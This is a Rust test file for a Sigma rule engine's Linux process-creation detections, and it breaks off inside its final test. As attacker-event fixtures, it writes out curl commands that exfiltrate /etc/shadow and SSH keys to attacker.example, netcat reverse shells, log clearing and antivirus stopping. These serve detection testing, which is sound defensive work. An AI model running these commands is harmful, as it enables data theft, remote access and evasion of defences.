//! Behaviour tests of the whole engine, rule text in and matches out: the
//! bundled seed rule, copies of SigmaHQ rules with hand-written attacker
//! and benign events, Sigma semantics edge cases, pinned error messages,
//! and a load of every SigmaHQ linux `process_creation` rule.

use std::borrow::Cow;
use std::path::{Path, PathBuf};

use super::*;

/// A flat event: field name -> value.
#[derive(Debug, Default)]
struct Ev(Vec<(&'static str, Value<'static>)>);

impl Ev {
    fn new(fields: &[(&'static str, &'static str)]) -> Self {
        Ev(fields
            .iter()
            .map(|&(k, v)| (k, Value::Str(Cow::Borrowed(v))))
            .collect())
    }

    fn with(mut self, name: &'static str, value: Value<'static>) -> Self {
        self.0.push((name, value));
        self
    }
}

impl Event for Ev {
    fn field(&self, name: &str) -> Option<Value<'_>> {
        self.0
            .iter()
            .find(|(k, _)| *k == name)
            .map(|(_, v)| v.clone())
    }

    fn for_each_string(&self, f: &mut dyn FnMut(&str)) {
        for (_, v) in &self.0 {
            if let Value::Str(s) = v {
                f(s);
            }
        }
    }
}

/// Loads `text` as one source, failing the test on any error.
fn load(name: &str, text: &str) -> RuleSet {
    let report = RuleSet::load_report([Source::new(name, text)]);
    let errors: Vec<String> = report.errors.iter().map(ToString::to_string).collect();
    assert!(errors.is_empty(), "errors loading {name}: {errors:#?}");
    assert!(report.skipped.is_empty(), "skipped: {:?}", report.skipped);
    assert!(!report.rules.is_empty(), "{name} loaded no rule");
    report.rules
}

fn hits(set: &RuleSet, event: &dyn Event) -> Vec<usize> {
    let mut out = Vec::new();
    set.matches(event, &mut out);
    out
}

fn fires(set: &RuleSet, event: &Ev) -> bool {
    !hits(set, event).is_empty()
}

/// Load errors of `text`, as displayed.
fn load_errors(text: &str) -> Vec<String> {
    let (_, errors) = RuleSet::load([Source::new("test.yml", text)]);
    errors.iter().map(ToString::to_string).collect()
}

/// A minimal rule around a detection body (indented by 4).
fn rule(detection: &str) -> String {
    format!(
        "title: T\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n{detection}"
    )
}

/// Asserts `detection` matches every event of `yes` and none of `no`.
fn check(detection: &str, yes: &[Ev], no: &[Ev]) {
    let set = load("test.yml", &rule(detection));
    for e in yes {
        assert!(fires(&set, e), "should match: {e:?}\n{detection}");
    }
    for e in no {
        assert!(!fires(&set, e), "should not match: {e:?}\n{detection}");
    }
}

macro_rules! sigmahq_rule {
    ($file:literal) => {
        load(
            $file,
            include_str!(concat!("../../tests/sigma/rules/", $file)),
        )
    };
}

// ---------------------------------------------------------------------------
// The bundled seed rule.

const KASPERSKY: &str =
    include_str!("../../../rules/proc_creation_lnx_av_kaspersky_av_disabled.yml");

#[test]
fn seed_rule_kaspersky_fires_on_stop_via_systemctl_or_init_script() {
    let set = load(
        "bundled:proc_creation_lnx_av_kaspersky_av_disabled.yml",
        KASPERSKY,
    );
    assert_eq!(set.len(), 1);
    for e in [
        Ev::new(&[
            ("Image", "/usr/bin/systemctl"),
            ("CommandLine", "systemctl stop kesl"),
        ]),
        Ev::new(&[
            ("Image", "/bin/bash"),
            ("CommandLine", "/bin/bash /etc/init.d/kesl stop"),
        ]),
        Ev::new(&[
            ("Image", "/usr/bin/sh"),
            ("CommandLine", "sh /etc/init.d/kesl stop"),
        ]),
        Ev::new(&[
            ("Image", "/usr/bin/systemctl"),
            ("CommandLine", "SYSTEMCTL STOP KESL"),
        ]),
        Ev::new(&[
            ("Image", "/USR/BIN/SYSTEMCTL"),
            ("CommandLine", "systemctl stop kesl-supervisor"),
        ]),
    ] {
        assert_eq!(hits(&set, &e), vec![0], "{e:?}");
    }
}

#[test]
fn seed_rule_kaspersky_ignores_other_verbs_images_and_lookalikes() {
    let set = load("bundled:kaspersky", KASPERSKY);
    for e in [
        Ev::new(&[
            ("Image", "/usr/bin/systemctl"),
            ("CommandLine", "systemctl status kesl"),
        ]),
        Ev::new(&[("Image", "/bin/echo"), ("CommandLine", "echo stop kesl")]),
        Ev::new(&[
            ("Image", "/usr/bin/systemctlx"),
            ("CommandLine", "systemctlx stop kesl"),
        ]),
        Ev::new(&[
            ("Image", "/usr/bin/systemctl"),
            ("CommandLine", "systemctl stop nginx"),
        ]),
        // No Image at all: `endswith` cannot match an absent field.
        Ev::new(&[("CommandLine", "systemctl stop kesl")]),
    ] {
        assert!(!fires(&set, &e), "{e:?}");
    }
}

#[test]
fn seed_rule_metadata_is_kept() {
    let set = load("bundled:kaspersky", KASPERSKY);
    let meta = &set.rules()[0].meta;
    assert_eq!(
        meta.id.as_deref(),
        Some("36388120-b3f1-4ce9-b50b-280d9a7f4c04")
    );
    assert_eq!(
        meta.title,
        "Kaspersky Endpoint Security Stopped Via CommandLine - Linux"
    );
    assert_eq!(meta.status.as_deref(), Some("experimental"));
    assert_eq!(meta.level.as_deref(), Some("high"));
    assert_eq!(meta.author.as_deref(), Some("Milad Cheraghi"));
    assert_eq!(meta.date.as_deref(), Some("2025-10-18"));
    assert_eq!(meta.modified, None);
    assert_eq!(
        meta.tags,
        [
            "attack.execution",
            "attack.defense-impairment",
            "attack.t1685"
        ]
    );
    assert_eq!(
        meta.references,
        ["https://support.kaspersky.com/KES4Linux/12.0.0/en-US/197929.htm"]
    );
    assert_eq!(
        meta.falsepositives,
        ["System administrator manually stopping Kaspersky services"]
    );
    assert!(
        meta.description
            .as_deref()
            .is_some_and(|d| d.starts_with("Detects execution of the Kaspersky init.d stop script"))
    );
    assert_eq!(meta.logsource.product.as_deref(), Some("linux"));
    assert_eq!(meta.source, "bundled:kaspersky");
    assert_eq!(meta.position, Position { line: 1, column: 1 });
    let json = serde_json::to_value(meta).expect("serializes");
    assert_eq!(json["level"], "high");
}

// ---------------------------------------------------------------------------
// SigmaHQ rules (copies in sensor/tests/sigma/rules), each with events a
// real command line would produce.

#[test]
fn sigmahq_auditctl_clear_rules_regex_is_case_sensitive() {
    let set = sigmahq_rule!("proc_creation_lnx_auditctl_clear_rules.yml");
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/sbin/auditctl"),
            ("CommandLine", "auditctl -D")
        ])
    ));
    // `-d` removes one rule, `-D` all of them; `|re` without `i` must not fold case.
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/sbin/auditctl"),
            ("CommandLine", "auditctl -d exit,always -S all")
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/sbin/auditctl"),
            ("CommandLine", "auditctl -l")
        ])
    ));
}

#[test]
fn sigmahq_chmod_sensitive_dirs_not_one_of_filters() {
    let set = sigmahq_rule!("proc_creation_lnx_chmod_targeting_sensitive_directories.yml");
    let chmod = |cli: &'static str, parent: &'static str| {
        Ev::new(&[
            ("Image", "/usr/bin/chmod"),
            ("CommandLine", cli),
            ("ParentCommandLine", parent),
        ])
    };
    assert!(fires(&set, &chmod("chmod +x /tmp/.x/payload", "bash")));
    assert!(fires(
        &set,
        &chmod("chmod 4755 /opt/backdoor", "sh -c chmod 4755 /opt/backdoor")
    ));
    // filter_main_apt_key (startswith)
    assert!(!fires(
        &set,
        &chmod(
            "chmod 700 /tmp/apt-key-gpghome.Xy12Ab",
            "/usr/bin/apt-key add -"
        )
    ));
    // filter_main_postinst (contains|all on the parent)
    assert!(!fires(
        &set,
        &chmod(
            "chmod 644 /etc/default/foo",
            "/bin/sh /var/lib/dpkg/info/foo.postinst configure 1.2"
        )
    ));
    // filter_main_landscape is an exact match: a longer command line is not filtered.
    assert!(!fires(
        &set,
        &chmod("chmod 0775 /etc/landscape/", "landscape-config")
    ));
    assert!(fires(
        &set,
        &chmod("chmod 0775 /etc/landscape/evil", "bash")
    ));
    // Not chmod at all.
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/chown"),
            ("CommandLine", "chown root /tmp/x")
        ])
    ));
}

#[test]
fn sigmahq_clear_syslog_parentheses_and_selectors() {
    let set = sigmahq_rule!("proc_creation_lnx_clear_syslog.yml");
    for (image, cli) in [
        ("/usr/bin/rm", "rm -f /var/log/syslog"),
        ("/usr/bin/truncate", "truncate --size 0 /var/log/syslog"),
        ("/usr/bin/ln", "ln -sfn /dev/null /var/log/syslog"),
        ("/usr/bin/bash", "bash -c :> /var/log/syslog"),
        ("/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
    ] {
        assert!(
            fires(&set, &Ev::new(&[("Image", image), ("CommandLine", cli)])),
            "{cli}"
        );
    }
    for (image, cli) in [
        // The file, but no clearing command.
        ("/usr/bin/cat", "cat /var/log/syslog"),
        ("/usr/bin/tail", "tail -f /var/log/syslog"),
        // A clearing command on another file.
        ("/usr/bin/rm", "rm -f /var/log/auth.log"),
        // truncate without a size flag: `contains|all` holds, the `-s`/`--size` list does not.
        ("/usr/bin/truncate", "truncate /var/log/syslog.0 "),
    ] {
        assert!(
            !fires(&set, &Ev::new(&[("Image", image), ("CommandLine", cli)])),
            "{cli}"
        );
    }
}

#[test]
fn sigmahq_curl_fileupload_list_of_maps_with_regex_and_filter() {
    let set = sigmahq_rule!("proc_creation_lnx_susp_curl_fileupload.yml");
    let curl = |cli: &'static str| Ev::new(&[("Image", "/usr/bin/curl"), ("CommandLine", cli)]);
    assert!(fires(
        &set,
        &curl("curl -F file=@/etc/passwd https://attacker.example/up")
    ));
    assert!(fires(
        &set,
        &curl("curl --data-binary @/etc/shadow http://203.0.113.5/x")
    ));
    assert!(fires(
        &set,
        &curl("curl -T /root/.ssh/id_rsa ftp://203.0.113.5/")
    ));
    // `-f` (fail silently) is not `-F`: the regex is case-sensitive.
    assert!(!fires(
        &set,
        &curl("curl -f https://example.com/install.sh")
    ));
    // filter_optional_localhost
    assert!(!fires(
        &set,
        &curl("curl -F a=@b.txt http://localhost:8080/upload")
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/wget"),
            ("CommandLine", "wget --post-file=/etc/passwd http://x")
        ])
    ));
}

#[test]
fn sigmahq_git_clone_all_of_with_case_insensitive_keywords() {
    let set = sigmahq_rule!("proc_creation_lnx_susp_git_clone.yml");
    let git = |cli: &'static str| Ev::new(&[("Image", "/usr/bin/git"), ("CommandLine", cli)]);
    assert!(fires(
        &set,
        &git("git clone https://github.com/christophetd/log4shell-vulnerable-app")
    ));
    assert!(fires(
        &set,
        &git("git clone https://github.com/x/cve-2021-4034")
    ));
    assert!(!fires(
        &set,
        &git("git clone https://github.com/rust-lang/regex")
    ));
    assert!(!fires(
        &set,
        &git("git pull https://github.com/x/cve-2021-4034")
    ));
}

#[test]
fn sigmahq_inode_listing_all_of_with_lists_of_maps_and_regexes() {
    let set = sigmahq_rule!("proc_creation_lnx_susp_inod_listing.yml");
    let ls = |cli: &'static str| Ev::new(&[("Image", "/usr/bin/ls"), ("CommandLine", cli)]);
    assert!(fires(&set, &ls("ls -lid /")));
    assert!(fires(&set, &ls("ls --inode --directory / ")));
    assert!(!fires(&set, &ls("ls -li /")));
    assert!(!fires(&set, &ls("ls -lid /home")));
}

#[test]
fn sigmahq_install_suspicious_packages_selector_and_selection() {
    let set = sigmahq_rule!("proc_creation_lnx_install_suspicious_packages.yml");
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/apt-get"),
            ("CommandLine", "apt-get install -y nmap")
        ])
    ));
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/dpkg"),
            ("CommandLine", "dpkg -i socat_1.7.4.deb")
        ])
    ));
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/yum"),
            ("CommandLine", "yum localinstall proxychains-ng.rpm")
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/apt"),
            ("CommandLine", "apt install vim")
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/apt"),
            ("CommandLine", "apt remove nmap")
        ])
    ));
}

#[test]
fn sigmahq_interactive_bash_exact_parent_command_line() {
    let set = sigmahq_rule!("proc_creation_lnx_susp_interactive_bash.yml");
    let child = |parent: &'static str, image: &'static str, cli: &'static str| {
        Ev::new(&[
            ("ParentCommandLine", parent),
            ("Image", image),
            ("CommandLine", cli),
        ])
    };
    assert!(fires(&set, &child("bash -i", "/usr/bin/whoami", "whoami")));
    assert!(fires(
        &set,
        &child(
            "BASH -I",
            "/usr/bin/python3",
            "python3 -c import pty;pty.spawn('/bin/sh')"
        )
    ));
    // Exact match: a longer parent command line is a different value.
    assert!(!fires(
        &set,
        &child("bash -i -c id", "/usr/bin/whoami", "whoami")
    ));
    assert!(!fires(&set, &child("bash -i", "/usr/bin/ls", "ls -la")));
}

#[test]
fn sigmahq_netcat_reverse_shell_all_of() {
    let set = sigmahq_rule!("proc_creation_lnx_netcat_reverse_shell.yml");
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "nc 203.0.113.5 4444 -e /bin/bash")
        ])
    ));
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/ncat"),
            ("CommandLine", "ncat -c sh 203.0.113.5 443")
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[("Image", "/usr/bin/nc"), ("CommandLine", "nc -lvnp 4444")])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/socat"),
            ("CommandLine", "socat x -e /bin/bash")
        ])
    ));
}

#[test]
fn sigmahq_network_utilities_parenthesised_not() {
    let set = sigmahq_rule!("proc_creation_lnx_susp_network_utilities_execution.yml");
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/nmap"),
            ("CommandLine", "nmap -sS 10.0.0.0/24")
        ])
    ));
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/bin/ncat"),
            ("CommandLine", "ncat 203.0.113.5 4444")
        ])
    ));
    // A scanner fires even with the listen flag: `not` binds to the netcat branch only.
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/sbin/hping3"),
            ("CommandLine", "hping3 -l x")
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[("Image", "/usr/bin/nc"), ("CommandLine", "nc -l -p 4444")])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[("Image", "/usr/bin/ssh"), ("CommandLine", "ssh host")])
    ));
}

#[test]
fn sigmahq_trufflehog_or_all_of() {
    let set = sigmahq_rule!("proc_creation_lnx_pua_trufflehog.yml");
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/usr/local/bin/trufflehog"),
            ("CommandLine", "trufflehog filesystem /srv")
        ])
    ));
    assert!(fires(
        &set,
        &Ev::new(&[
            ("Image", "/tmp/th"),
            (
                "CommandLine",
                "/tmp/th github --org=acme --results=verified"
            )
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("Image", "/tmp/th"),
            ("CommandLine", "/tmp/th github --org=acme")
        ])
    ));
}

#[test]
fn sigmahq_webshell_children() {
    let set = sigmahq_rule!("proc_creation_lnx_webshell_detection.yml");
    assert!(fires(
        &set,
        &Ev::new(&[
            ("ParentImage", "/usr/sbin/nginx"),
            ("Image", "/usr/bin/whoami")
        ])
    ));
    assert!(fires(
        &set,
        &Ev::new(&[
            ("ParentImage", "/usr/lib/jvm/java-17/bin/java"),
            (
                "ParentCommandLine",
                "/usr/lib/jvm/java-17/bin/java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start"
            ),
            ("Image", "/usr/bin/hostname"),
        ])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[("ParentImage", "/usr/sbin/nginx"), ("Image", "/usr/bin/ls")])
    ));
    assert!(!fires(
        &set,
        &Ev::new(&[
            ("ParentImage", "/usr/bin/bash"),
            ("Image", "/usr/bin/whoami")
        ])
    ));
}

#[test]
fn sigmahq_threat_hunting_kill() {
    let set = sigmahq_rule!("proc_creation_lnx_susp_process_termination_via_kill.yml");
    assert!(fires(&set, &Ev::new(&[("Image", "/usr/bin/pkill")])));
    assert!(fires(&set, &Ev::new(&[("Image", "/bin/kill")])));
    assert!(!fires(&set, &Ev::new(&[("Image", "/usr/bin/skill")])));
}

#[test]
fn matches_reports_every_hit_in_rule_order() {
    let text = format!(
        "{}\n---\n{}",
        rule("    sel:\n        Image|endswith: /nc\n    condition: sel\n"),
        rule("    sel:\n        CommandLine|contains: ' -e '\n    condition: sel\n")
    );
    let set = load("two.yml", &text);
    assert_eq!(set.len(), 2);
    let both = Ev::new(&[("Image", "/usr/bin/nc"), ("CommandLine", "nc x -e sh")]);
    let mut out = vec![99];
    set.matches(&both, &mut out);
    assert_eq!(
        out,
        vec![99, 0, 1],
        "appended after existing entries, in rule order"
    );
    assert_eq!(hits(&set, &Ev::new(&[("CommandLine", "x -e y")])), vec![1]);
}

// ---------------------------------------------------------------------------
// Semantics edge cases.

#[test]
fn wildcards_star_and_question_mark_in_plain_values() {
    check(
        "    sel:\n        Image: '/usr/*/python?'\n    condition: sel\n",
        &[
            Ev::new(&[("Image", "/usr/bin/python3")]),
            Ev::new(&[("Image", "/usr/local/bin/python2")]),
        ],
        &[
            Ev::new(&[("Image", "/usr/bin/python")]),
            Ev::new(&[("Image", "/usr/bin/python3.11")]),
            Ev::new(&[("Image", "/opt/usr/bin/python3")]),
        ],
    );
}

#[test]
fn wildcards_inside_contains_and_endswith() {
    check(
        "    sel:\n        CommandLine|contains: 'curl *|*sh'\n    condition: sel\n",
        &[Ev::new(&[(
            "CommandLine",
            "bash -c curl http://x/i.sh | sh",
        )])],
        &[Ev::new(&[("CommandLine", "curl http://x/i.sh")])],
    );
    check(
        "    sel:\n        Image|endswith: '/python?'\n    condition: sel\n",
        &[Ev::new(&[("Image", "/usr/bin/python3")])],
        &[Ev::new(&[("Image", "/usr/bin/python3.11")])],
    );
}

#[test]
fn escaped_wildcards_are_literals_and_other_backslashes_stay() {
    check(
        "    sel:\n        CommandLine: 'rm -rf \\*'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "rm -rf *")])],
        &[
            Ev::new(&[("CommandLine", "rm -rf /")]),
            Ev::new(&[("CommandLine", "rm -rf \\*")]),
        ],
    );
    check(
        "    sel:\n        CommandLine: 'what\\?'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "what?")])],
        &[Ev::new(&[("CommandLine", "whatX")])],
    );
    // `\W` is not an escape: the backslash is part of the value.
    check(
        "    sel:\n        Image: 'C:\\Windows\\System32\\cmd.exe'\n    condition: sel\n",
        &[Ev::new(&[("Image", "c:\\windows\\system32\\cmd.exe")])],
        &[Ev::new(&[("Image", "C:WindowsSystem32cmd.exe")])],
    );
    // `\\` is one backslash, and the `*` after it is a wildcard again.
    check(
        "    sel:\n        Image: 'C:\\\\Temp\\\\*'\n    condition: sel\n",
        &[Ev::new(&[("Image", "C:\\Temp\\evil.exe")])],
        &[Ev::new(&[("Image", "C:\\\\Temp\\\\evil.exe")])],
    );
}

#[test]
fn plain_value_without_wildcard_is_a_full_match() {
    check(
        "    sel:\n        CommandLine: 'whoami'\n    condition: sel\n",
        &[
            Ev::new(&[("CommandLine", "whoami")]),
            Ev::new(&[("CommandLine", "WHOAMI")]),
        ],
        &[
            Ev::new(&[("CommandLine", "whoami /all")]),
            Ev::new(&[("CommandLine", " whoami")]),
        ],
    );
}

#[test]
fn matching_folds_unicode_case_unless_cased() {
    check(
        "    sel:\n        User: 'ÄRGER'\n        CommandLine|contains: 'STRASSE'\n    condition: sel\n",
        &[Ev::new(&[
            ("User", "ärger"),
            ("CommandLine", "cd /home/strasse"),
        ])],
        &[Ev::new(&[
            ("User", "arger"),
            ("CommandLine", "cd /home/strasse"),
        ])],
    );
    check(
        "    sel:\n        CommandLine|cased|contains: 'Invoke-'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "pwsh -c Invoke-Expression")])],
        &[Ev::new(&[("CommandLine", "pwsh -c invoke-expression")])],
    );
    check(
        "    sel:\n        Image|cased: '/tmp/A*'\n    condition: sel\n",
        &[Ev::new(&[("Image", "/tmp/Abc")])],
        &[Ev::new(&[("Image", "/tmp/abc")])],
    );
}

#[test]
fn null_means_absent_or_null_and_empty_string_means_empty() {
    let null_rule = "    sel:\n        ParentImage: null\n    condition: sel\n";
    check(
        null_rule,
        &[
            Ev::new(&[("Image", "/bin/sh")]),
            Ev::new(&[]).with("ParentImage", Value::Null),
        ],
        &[
            Ev::new(&[("ParentImage", "")]),
            Ev::new(&[("ParentImage", "/bin/bash")]),
        ],
    );
    check(
        "    sel:\n        ParentImage: ''\n    condition: sel\n",
        &[Ev::new(&[("ParentImage", "")])],
        &[
            Ev::new(&[("Image", "/bin/sh")]),
            Ev::new(&[]).with("ParentImage", Value::Null),
        ],
    );
    check(
        "    sel:\n        Image: '/bin/sh'\n    filter:\n        ParentImage: null\n    condition: sel and not filter\n",
        &[Ev::new(&[
            ("Image", "/bin/sh"),
            ("ParentImage", "/usr/sbin/sshd"),
        ])],
        &[Ev::new(&[("Image", "/bin/sh")])],
    );
}

#[test]
fn numbers_match_integers_and_digit_strings() {
    check(
        "    sel:\n        LogonId: 0\n    condition: sel\n",
        &[
            Ev::new(&[]).with("LogonId", Value::Int(0)),
            Ev::new(&[("LogonId", "0")]),
        ],
        &[
            Ev::new(&[]).with("LogonId", Value::Int(1000)),
            Ev::new(&[("LogonId", "00")]),
            Ev::new(&[("LogonId", "root")]),
            Ev::new(&[]),
        ],
    );
    // A quoted number is a string, and still equals an integer field's text.
    check(
        "    sel:\n        ProcessId: '1234'\n    condition: sel\n",
        &[
            Ev::new(&[]).with("ProcessId", Value::Int(1234)),
            Ev::new(&[("ProcessId", "1234")]),
        ],
        &[Ev::new(&[]).with("ProcessId", Value::Int(12345))],
    );
    // String modifiers see a number as its text.
    check(
        "    sel:\n        CommandLine|contains: 4444\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "nc -lvnp 4444")])],
        &[Ev::new(&[("CommandLine", "nc -lvnp 443")])],
    );
}

#[test]
fn booleans_match_boolean_fields() {
    check(
        "    sel:\n        CommandLineTruncated: true\n    condition: sel\n",
        &[Ev::new(&[]).with("CommandLineTruncated", Value::Bool(true))],
        &[
            Ev::new(&[]).with("CommandLineTruncated", Value::Bool(false)),
            Ev::new(&[]),
        ],
    );
}

#[test]
fn exists_modifier() {
    check(
        "    sel:\n        Image|endswith: /sh\n        ParentImage|exists: false\n    condition: sel\n",
        &[
            Ev::new(&[("Image", "/bin/sh")]),
            Ev::new(&[("Image", "/bin/sh")]).with("ParentImage", Value::Null),
        ],
        &[Ev::new(&[("Image", "/bin/sh"), ("ParentImage", "")])],
    );
    check(
        "    sel:\n        ParentImage|exists: true\n    condition: sel\n",
        &[Ev::new(&[("ParentImage", "")])],
        &[Ev::new(&[("Image", "/bin/sh")])],
    );
}

#[test]
fn all_modifier_needs_every_value_and_lists_otherwise_or() {
    let both = "    sel:\n        CommandLine|contains|all:\n            - '-e'\n            - '/bin/sh'\n    condition: sel\n";
    check(
        both,
        &[Ev::new(&[("CommandLine", "nc -e /bin/sh x")])],
        &[
            Ev::new(&[("CommandLine", "nc -e /bin/bash x")]),
            Ev::new(&[("CommandLine", "/bin/sh")]),
        ],
    );
    check(
        "    sel:\n        Image|endswith:\n            - '/nc'\n            - '/ncat'\n    condition: sel\n",
        &[
            Ev::new(&[("Image", "/bin/nc")]),
            Ev::new(&[("Image", "/bin/ncat")]),
        ],
        &[Ev::new(&[("Image", "/bin/netcat")])],
    );
}

#[test]
fn startswith_modifier() {
    check(
        "    sel:\n        CommandLine|startswith: 'sudo -u'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "SUDO -u root id")])],
        &[Ev::new(&[("CommandLine", "echo sudo -u")])],
    );
}

#[test]
fn regex_flags_and_unanchored_search() {
    check(
        "    sel:\n        CommandLine|re: 'base64 +-d'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "echo x | base64  -d | sh")])],
        &[Ev::new(&[("CommandLine", "echo x | BASE64 -d | sh")])],
    );
    check(
        "    sel:\n        CommandLine|re|i: 'base64 +-d'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "echo x | BASE64 -D | sh")])],
        &[],
    );
    check(
        "    sel:\n        CommandLine|re|m: '^curl'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "x\ncurl y")])],
        &[Ev::new(&[("CommandLine", "x curl y")])],
    );
    check(
        "    sel:\n        CommandLine|re|s: 'a.b'\n    condition: sel\n",
        &[Ev::new(&[("CommandLine", "a\nb")])],
        &[],
    );
    check(
        "    sel:\n        CommandLine|re: 'a.b'\n    condition: sel\n",
        &[],
        &[Ev::new(&[("CommandLine", "a\nb")])],
    );
}

#[test]
fn windash_accepts_slash_and_unicode_dashes() {
    let text = "    sel:\n        CommandLine|windash|contains: ' -enc '\n    condition: sel\n";
    check(
        text,
        &[
            Ev::new(&[("CommandLine", "pwsh -enc AAAA")]),
            Ev::new(&[("CommandLine", "pwsh /enc AAAA")]),
            Ev::new(&[("CommandLine", "pwsh \u{2013}enc AAAA")]),
            Ev::new(&[("CommandLine", "pwsh \u{2014}enc AAAA")]),
            Ev::new(&[("CommandLine", "pwsh \u{2015}enc AAAA")]),
        ],
        &[
            Ev::new(&[("CommandLine", "pwsh +enc AAAA")]),
            Ev::new(&[("CommandLine", "pwsh enc AAAA")]),
        ],
    );
}

#[test]
fn keywords_search_every_string_field() {
    check(
        "    keywords:\n        - 'mimikatz'\n        - 'sekurlsa'\n    condition: keywords\n",
        &[
            Ev::new(&[("Image", "/tmp/MIMIKATZ"), ("CommandLine", "x")]),
            Ev::new(&[
                ("Image", "/tmp/x"),
                ("ParentCommandLine", "run sekurlsa::logonpasswords"),
            ]),
        ],
        &[
            Ev::new(&[("Image", "/bin/ls"), ("CommandLine", "ls")])
                .with("ProcessId", Value::Int(1)),
        ],
    );
    check(
        "    keywords:\n        '|all':\n            - 'nc'\n            - '4444'\n    condition: keywords\n",
        &[Ev::new(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "x 4444"),
        ])],
        &[Ev::new(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "x 443"),
        ])],
    );
    check(
        "    keyword: 'reverse shell'\n    condition: keyword\n",
        &[Ev::new(&[("CommandLine", "echo Reverse Shell")])],
        &[Ev::new(&[("CommandLine", "echo reverse")])],
    );
}

#[test]
fn list_of_maps_is_or_and_map_is_and() {
    check(
        "    sel:\n        - Image|endswith: /curl\n          CommandLine|contains: ' -o '\n        - Image|endswith: /wget\n    condition: sel\n",
        &[
            Ev::new(&[
                ("Image", "/usr/bin/curl"),
                ("CommandLine", "curl -o /tmp/x http://y"),
            ]),
            Ev::new(&[("Image", "/usr/bin/wget"), ("CommandLine", "wget http://y")]),
        ],
        &[Ev::new(&[
            ("Image", "/usr/bin/curl"),
            ("CommandLine", "curl http://y"),
        ])],
    );
}

#[test]
fn condition_list_is_an_or() {
    check(
        "    a:\n        Image: /bin/a\n    b:\n        Image: /bin/b\n    condition:\n        - a\n        - b\n",
        &[
            Ev::new(&[("Image", "/bin/a")]),
            Ev::new(&[("Image", "/bin/b")]),
        ],
        &[Ev::new(&[("Image", "/bin/c")])],
    );
}

#[test]
fn them_skips_underscore_identifiers() {
    check(
        "    a:\n        Image|endswith: /nc\n    _helper:\n        CommandLine: never\n    condition: all of them\n",
        &[Ev::new(&[("Image", "/bin/nc"), ("CommandLine", "nc x")])],
        &[],
    );
}

#[test]
fn global_collection_merges_into_each_rule() {
    let text = "\
action: global
title: Shells from web servers
logsource:
    product: linux
    category: process_creation
detection:
    parent:
        ParentImage|endswith: /nginx
    condition: parent and child
level: high
---
detection:
    child:
        Image|endswith: /sh
---
detection:
    child:
        Image|endswith: /bash
";
    let set = load("collection.yml", text);
    assert_eq!(set.len(), 2);
    assert!(
        set.rules()
            .iter()
            .all(|r| r.meta.level.as_deref() == Some("high"))
    );
    assert_eq!(
        hits(
            &set,
            &Ev::new(&[("ParentImage", "/usr/sbin/nginx"), ("Image", "/bin/bash")])
        ),
        vec![1]
    );
    assert_eq!(
        hits(
            &set,
            &Ev::new(&[("ParentImage", "/usr/sbin/nginx"), ("Image", "/bin/sh")])
        ),
        vec![0]
    );
    assert!(
        hits(
            &set,
            &Ev::new(&[("ParentImage", "/usr/sbin/httpd"), ("Image", "/bin/sh")])
        )
        .is_empty()
    );
}

#[test]
fn logsource_gating_skips_other_categories_and_products() {
    let doc = |logsource: &str, title: &str| {
        format!(
            "title: {title}\nlogsource:\n{logsource}detection:\n    sel:\n        Image|base64offset|contains: x\n    condition: sel\n"
        )
    };
    let text = [
        doc("    product: windows\n    category: process_creation\n", "Win"),
        doc("    product: linux\n    category: file_event\n", "File"),
        doc("    product: linux\n    service: auditd\n", "Auditd"),
        "title: Generic\nlogsource:\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith: /sh\n    condition: sel\n".to_owned(),
    ]
    .join("---\n");
    let report = RuleSet::load_report([Source::new("mixed.yml", text)]);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(report.rules.len(), 1);
    assert_eq!(report.rules.rules()[0].meta.title, "Generic");
    let skipped: Vec<String> = report.skipped.iter().map(ToString::to_string).collect();
    assert_eq!(
        skipped,
        [
            "mixed.yml:2:1: rule 'Win': skipped: logsource category 'process_creation', product 'windows' is not linux process_creation",
            "mixed.yml:11:1: rule 'File': skipped: logsource category 'file_event', product 'linux' is not linux process_creation",
            "mixed.yml:20:1: rule 'Auditd': skipped: logsource product 'linux', service 'auditd' is not linux process_creation",
        ]
    );
}

#[test]
fn a_bad_rule_does_not_stop_good_ones() {
    let text = format!(
        "{}---\n{}",
        rule("    sel:\n        Image|endwith: /sh\n    condition: sel\n"),
        rule("    sel:\n        Image|endswith: /sh\n    condition: sel\n")
    );
